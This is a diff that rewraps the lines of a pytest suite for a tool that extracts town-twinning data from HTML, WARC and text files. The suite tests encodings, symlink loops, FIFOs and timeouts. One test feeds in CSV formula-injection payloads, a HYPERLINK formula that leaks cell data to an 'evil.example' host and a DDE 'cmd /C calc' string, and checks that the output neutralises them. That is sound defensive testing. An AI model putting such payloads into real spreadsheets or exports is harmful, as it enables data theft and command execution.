@@ -71,9 +71,14 @@ def good_rows(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, s
     return rows
 
 
-def run_case(tmp: Path, files: dict[str, bytes], good_rows: dict[str, dict[str, str]],
-             urls: dict[str, str] | None = None, time_limit: float = TIME_LIMIT,
-             inp: Path | None = None) -> tuple[int, dict[str, dict[str, str]], list[dict[str, str]]]:
+def run_case(
+    tmp: Path,
+    files: dict[str, bytes],
+    good_rows: dict[str, dict[str, str]],
+    urls: dict[str, str] | None = None,
+    time_limit: float = TIME_LIMIT,
+    inp: Path | None = None,
+) -> tuple[int, dict[str, dict[str, str]], list[dict[str, str]]]:
     inp = inp or build(tmp, files, urls)
     start = time.monotonic()
     code = run(inp, tmp / "out", BatchOptions(progress=False, time_limit=time_limit))
@@ -134,8 +139,9 @@ def stuck_in_c(doc: Document, use_nlp: bool = True, prefilter: bool = True) -> P
 
 
 @pytest.mark.parametrize("workers", [1, 2])
-def test_a_page_stuck_in_c_code_is_stopped_at_the_limit(tmp_path: Path, good_rows: dict[str, dict[str, str]],
-                                                        monkeypatch: pytest.MonkeyPatch, workers: int) -> None:
+def test_a_page_stuck_in_c_code_is_stopped_at_the_limit(
+    tmp_path: Path, good_rows: dict[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch, workers: int
+) -> None:
     monkeypatch.setattr(page, "process_document", stuck_in_c)  # the forked workers inherit it
     inp = build(tmp_path, {"stuck.html": html(FR).encode()})
     code = run(inp, tmp_path / "out", BatchOptions(progress=False, time_limit=2.0, workers=workers))
@@ -165,25 +171,35 @@ def test_invalid_utf8(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> N
 
 def test_utf16_with_bom(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
     text = html("<p>Onze gemeente is verbroederd met de stad Fès (Marokko) sinds 1998.</p>")
-    code, rows, _ = run_case(tmp_path, {"utf16.html": "\ufeff".encode("utf-16-le") + text.encode("utf-16-le")},
-                             good_rows, urls={"utf16.html": "https://www.ath.be/nl"})
+    code, rows, _ = run_case(
+        tmp_path,
+        {"utf16.html": "\ufeff".encode("utf-16-le") + text.encode("utf-16-le")},
+        good_rows,
+        urls={"utf16.html": "https://www.ath.be/nl"},
+    )
     assert code == EXIT_OK
     assert tanger(rows)["year"] == "1998"
 
 
 def test_windows_1252_text_file(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
-    text = "Relations internationales\n\nLa commune d’Ath est jumelée avec la ville de Fès (Maroc) depuis 1998 – « œuvre » commune.\n"
-    code, rows, _ = run_case(tmp_path, {"cp1252.txt": text.encode("cp1252")}, good_rows,
-                             urls={"cp1252.txt": "https://www.ath.be/t"})
+    text = (
+        "Relations internationales\n\n"
+        "La commune d’Ath est jumelée avec la ville de Fès (Maroc) depuis 1998 – « œuvre » commune.\n"
+    )
+    code, rows, _ = run_case(
+        tmp_path, {"cp1252.txt": text.encode("cp1252")}, good_rows, urls={"cp1252.txt": "https://www.ath.be/t"}
+    )
     assert code == EXIT_OK
     assert "jumelée" in tanger(rows)["evidence"]
 
 
 def test_formula_cells_are_neutralised(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
-    table = ("<h2>Jumelages</h2><table><tr><th>Ville</th><th>Pays</th><th>Depuis</th></tr>"
-             '<tr><td>=HYPERLINK("http://evil.example/?leak="&A1,"Fès")</td><td>Maroc</td><td>1998</td></tr>'
-             "<tr><td>+cmd|' /C calc'!A0</td><td>@SUM(1+1)</td><td>-2+3</td></tr></table>"
-             "<p>La commune est jumelée avec =HYPERLINK(\"http://evil.example\",\"Douai\") (France).</p>")
+    table = (
+        "<h2>Jumelages</h2><table><tr><th>Ville</th><th>Pays</th><th>Depuis</th></tr>"
+        '<tr><td>=HYPERLINK("http://evil.example/?leak="&A1,"Fès")</td><td>Maroc</td><td>1998</td></tr>'
+        "<tr><td>+cmd|' /C calc'!A0</td><td>@SUM(1+1)</td><td>-2+3</td></tr></table>"
+        '<p>La commune est jumelée avec =HYPERLINK("http://evil.example","Douai") (France).</p>'
+    )
     files = {"formula.html": html(table).encode(), "empty_formula.html": b""}
     urls = {"formula.html": "https://www.ath.be/f", "empty_formula.html": '=HYPERLINK("http://evil.example","x")'}
     run_case(tmp_path, files, good_rows, urls=urls)
@@ -193,7 +209,7 @@ def test_formula_cells_are_neutralised(tmp_path: Path, good_rows: dict[str, dict
             for cell in line:  # a negative number (a longitude) is a number, not a formula
                 assert not cell.startswith(FORMULA_START) or re.fullmatch(r"-\d+(?:\.\d+)?", cell), (name, cell)
     errors = outputs(out)[1]
-    assert error_of(errors, "'=HYPERLINK(\"http://evil.example\",\"x\")")["error_type"] == "DecodeError"
+    assert error_of(errors, '\'=HYPERLINK("http://evil.example","x")')["error_type"] == "DecodeError"
 
 
 def test_symlink_loops(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
@@ -207,10 +223,14 @@ def test_symlink_loops(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> 
     assert err["stage"] == "ingest" and err["error_type"] == "OSError"
 
 
-def test_file_disappears_during_the_run(tmp_path: Path, good_rows: dict[str, dict[str, str]],
-                                        monkeypatch: pytest.MonkeyPatch) -> None:
-    inp = build(tmp_path, {"gone.html": html(FR).encode(), "zz_after.html": html(FR).encode()},
-                urls={"zz_after.html": "https://www.ath.be/z"})
+def test_file_disappears_during_the_run(
+    tmp_path: Path, good_rows: dict[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch
+) -> None:
+    inp = build(
+        tmp_path,
+        {"gone.html": html(FR).encode(), "zz_after.html": html(FR).encode()},
+        urls={"zz_after.html": "https://www.ath.be/z"},
+    )
     real_walk: Callable[[Path], object] = ingest._walk
 
     def walk_then_delete(directory: Path):  # type: ignore[no-untyped-def]
@@ -262,8 +282,12 @@ def warc_without_target_uri(path: Path) -> None:
         writer = WARCWriter(fh, gzip=False)
         for url in ("https://www.ath.be/sans-uri", "https://www.ath.be/jumelages"):
             record = writer.create_warc_record(
-                url, "response", payload=io.BytesIO(body), length=len(body),
-                http_headers=StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1"))
+                url,
+                "response",
+                payload=io.BytesIO(body),
+                length=len(body),
+                http_headers=StatusAndHeaders("200 OK", [("Content-Type", "text/html")], protocol="HTTP/1.1"),
+            )
             if url.endswith("sans-uri"):
                 record.rec_headers.remove_header("WARC-Target-URI")
             writer.write_record(record)
@@ -280,7 +304,9 @@ def test_warc_without_target_uri(tmp_path: Path, good_rows: dict[str, dict[str, 
     assert "https://www.ath.be/jumelages" in tanger(rows)["source_url"]  # the file's other record is read
 
 
-def test_symlink_to_dev_zero_and_a_fifo_are_named_not_read(tmp_path: Path, good_rows: dict[str, dict[str, str]]) -> None:
+def test_symlink_to_dev_zero_and_a_fifo_are_named_not_read(
+    tmp_path: Path, good_rows: dict[str, dict[str, str]]
+) -> None:
     inp = build(tmp_path, {})
     (inp / "zero.html").symlink_to("/dev/zero")
     os.mkfifo(inp / "pipe.html")  # opening it for reading would wait for a writer forever
@@ -320,9 +346,13 @@ def test_symlinks_outside_the_input_are_not_followed(tmp_path: Path, good_rows: 
 
 
 def test_sources_csv_problems_are_warnings_in_the_log_and_run_json(
-        tmp_path: Path, good_rows: dict[str, dict[str, str]], caplog: pytest.LogCaptureFixture) -> None:
-    inp = build(tmp_path, {"ath.html": html(FR).encode()},
-                urls={"ath.html": "https://www.ath.be/j", "missing.html": "https://www.ath.be/m"})
+    tmp_path: Path, good_rows: dict[str, dict[str, str]], caplog: pytest.LogCaptureFixture
+) -> None:
+    inp = build(
+        tmp_path,
+        {"ath.html": html(FR).encode()},
+        urls={"ath.html": "https://www.ath.be/j", "missing.html": "https://www.ath.be/m"},
+    )
     with (inp / "sources.csv").open("a") as fh:
         fh.write("ath2.html,https://www.ath.be/k,99999\n")
     (inp / "ath2.html").write_text(html(FR))
@@ -356,13 +386,22 @@ def test_every_page_failed_still_writes_errors_csv(tmp_path: Path, good_rows: di
     assert not (out / "failed-run").exists()  # a committed run clears the failed run's report
 
 
-def test_skipped_files_and_empty_text_are_counted(tmp_path: Path, good_rows: dict[str, dict[str, str]],
-                                                  caplog: pytest.LogCaptureFixture) -> None:
+def test_skipped_files_and_empty_text_are_counted(
+    tmp_path: Path, good_rows: dict[str, dict[str, str]], caplog: pytest.LogCaptureFixture
+) -> None:
     # partnership wording in the title only: read (the pre-filter keeps it), no main text
     empty_text = b"<html><head><title>Jumelages</title></head><body><script>x=1</script></body></html>"
     no_wording = b"<html><head><title>Accueil</title></head><body><p>Horaires</p></body></html>"
-    inp = build(tmp_path, {"MANIFEST.tsv": b"a\tb\n", "pages.gz": b"\x1f\x8b", "blob.bin": b"\x00",
-                           "blank.html": empty_text, "home.html": no_wording})
+    inp = build(
+        tmp_path,
+        {
+            "MANIFEST.tsv": b"a\tb\n",
+            "pages.gz": b"\x1f\x8b",
+            "blob.bin": b"\x00",
+            "blank.html": empty_text,
+            "home.html": no_wording,
+        },
+    )
     caplog.set_level("INFO")
     code = run(inp, tmp_path / "out", BatchOptions(progress=False, verbose=True))
     assert code == EXIT_OK
@@ -382,8 +421,9 @@ def test_output_path_that_is_a_file(tmp_path: Path, caplog: pytest.LogCaptureFix
     assert any("output path is not a directory" in r.getMessage() for r in caplog.records)
 
 
-def test_a_directory_that_cannot_be_listed_is_named(tmp_path: Path, good_rows: dict[str, dict[str, str]],
-                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+def test_a_directory_that_cannot_be_listed_is_named(
+    tmp_path: Path, good_rows: dict[str, dict[str, str]], monkeypatch: pytest.MonkeyPatch
+) -> None:
     inp = build(tmp_path, {})
     (inp / "locked").mkdir()
     (inp / "locked" / "page.html").write_text(html(FR))
